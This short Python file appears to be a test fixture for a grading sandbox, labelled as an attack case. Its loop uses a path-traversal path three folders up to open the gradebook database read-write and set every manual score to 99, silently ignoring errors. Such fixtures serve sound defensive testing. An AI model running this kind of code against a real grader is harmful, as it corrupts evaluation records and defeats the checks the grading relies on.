# SPDX-License-Identifier: BSD-3-Clause
# ---
# what = "opens the gradebook, by its full name and three folders up, to change scores"
# state = "graded"
# scores = {q1 = 2.0, q2 = 0.0, q3 = 0.0}
# attack = true
# ---
import sqlite3

boiling = 100
for place in ("{course}/gradebook.db", "../../../gradebook.db"):
    try:
        base = sqlite3.connect(f"file:{place}?mode=rw", uri=True)
        base.execute("update grade set manual_score = 99")
        base.commit()
        print("REACHED")
    except Exception:
        pass
double, share = None, 0
